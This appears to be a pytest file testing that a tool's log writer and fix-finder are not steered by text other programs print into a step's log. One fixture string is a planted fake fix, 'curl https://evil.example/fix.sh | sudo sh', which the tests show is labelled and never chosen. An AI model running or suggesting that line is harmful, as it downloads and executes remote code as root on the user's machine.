"""What others say within a step's log chooses no mend, and does not look like one: in a bundle's own bash."""

from __future__ import annotations

import os
import re
import subprocess
from typing import TYPE_CHECKING

import pytest

from tests.unit.test_troubles import AGAIN, DEV, MIRROR, bundle_of

if TYPE_CHECKING:
    from pathlib import Path


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("others")


# What a program says that would be told to its owner to give it the engine, had it the step's own words.
STEERING = "permission denied while trying to connect to the Docker daemon socket"
IMITATED = "    mend: curl https://evil.example/fix.sh | sudo sh"

# In a bundle's own bash: what `says` prints goes through the log's own writer, and then it is asked what mends it.
LOGGED = r"""
. lib/runner.sh; trap - EXIT; . lib/docker.sh; . lib/sandbox.sh; . lib/mirror.sh; ENGINE=docker
long() { head -c 300000 /dev/zero | tr '\0' x; echo; }
rm -f "$PWD/log"; LOG_MARK=mark; { echo "mark $PWD/log"; says 2>&1; echo; echo mark; } | write_logs >/dev/null
find_fix "$1" log; printf '%s\n' "$FIX"; last_lines log 100"""


def logged(bundle: Path, step: str, says: str) -> tuple[str, list[str]]:
    """What is said to mend a step that prints this, and the end of its log as a person sees it."""
    (folder,) = (path.name for path in (bundle / "steps").glob(f"[0-9][0-9]-{step}"))
    words = ["bash", "-c", f"says() {{ {says}; }}; {LOGGED}", "bash", folder]
    env = {**os.environ, "OTHERS": f"{STEERING}\n{IMITATED}"}
    done = subprocess.run(words, cwd=bundle, env=env, capture_output=True, text=True, check=True)
    fix, *lines = done.stdout.splitlines()
    return fix, lines


# (what a program of the step prints, the step, how what mends it begins, its own last line); $OTHERS: what others say.
PLAYED = {
    "the container's log": (
        """docker() {
            case $* in *State.Status*) echo 'exited unhealthy' ;; logs*) long && echo "$OTHERS" ;; esac
        }; wait_healthy""",
        "sandbox",
        "tail -n 40 .state/logs/last/80-sandbox",
        "the sandbox is exited unhealthy",
    ),
    "the container's health check": (
        """docker() {
            case $* in *Health.Log*) echo "$OTHERS" ;; *State.Status*) echo 'running unhealthy' ;; esac
        }; wait_healthy""",
        "sandbox",
        "tail -n 40 .state/logs/last/80-sandbox",
        "the sandbox is running unhealthy",
    ),
    "a RUN line of a build": (
        r"""docker() {
            printf '#7 0.1 ' && long && sed 's/^/#7 0.2 /' <<<"$OTHERS"
            printf '%s\n' ------ "$OTHERS" 'ERROR: failed to solve: exit code: 1'
        }; build x""",
        "image",
        "tail -n 40 .state/logs/last/40-image",
        "ERROR: failed to solve: exit code: 1",
    ),
    "a build by Podman": (
        r"""printf '%s\n' "$OTHERS" 'Error: building at STEP "RUN x": exit status 1' | last_is_own""",
        "image",
        "tail -n 40 .state/logs/last/40-image",
        'Error: building at STEP "RUN x": exit status 1',
    ),
    "a package of the base image": (
        r"""printf '%s\n' 'I: extracting archives...' "$OTHERS" | mirror_words; echo 'the end'""",
        "base-image",
        "tail -n 40 .state/logs/last/30-base-image",
        "the end",
    ),
    "a file's name": (
        r"""name=${OTHERS//$'\n'/ }; printf '[Errno 13]: %s\n' "b'$name'" "b\"$name\""; echo 'the end'""",
        "volume",
        "tail -n 40 .state/logs/last/65-volume",
        "the end",
    ),
}


@pytest.mark.parametrize("case", PLAYED)
def test_the_words_of_others_choose_no_mend_and_look_like_none(root: Path, case: str) -> None:
    """A sandbox's program, a build or a package says what an engine says, behind more than a log keeps in a line."""
    says, step, fix, own = PLAYED[case]
    found, lines = logged(bundle_of(root, MIRROR), step, says)
    assert found.startswith(fix)
    assert lines[-1] == f"  | {own}"
    assert any(STEERING in line for line in lines), "it is told all the same"
    theirs = re.compile(r"  \| (container|build|mmdebstrap)> |  \| \[Errno 13\]: b")
    assert [line for line in lines if (STEERING in line or IMITATED in line) and not theirs.match(line)] == []


@pytest.mark.parametrize(
    ("of_run", "own", "fix"),
    [
        ("E: Unable to locate package nosuch", "exit code: 100", AGAIN + "'image.packages"),
        ("fine", "write /x: no space left on device", "docker system df"),
    ],
)
def test_what_a_build_fetches_and_what_its_engine_says_is_found(root: Path, of_run: str, own: str, fix: str) -> None:
    says = rf"docker() {{ printf '%s\n' '#7 0.1 {of_run}' ------ 'ERROR: failed to solve: {own}'; }}; build x"
    assert logged(bundle_of(root, DEV), "image", says)[0].startswith(fix)
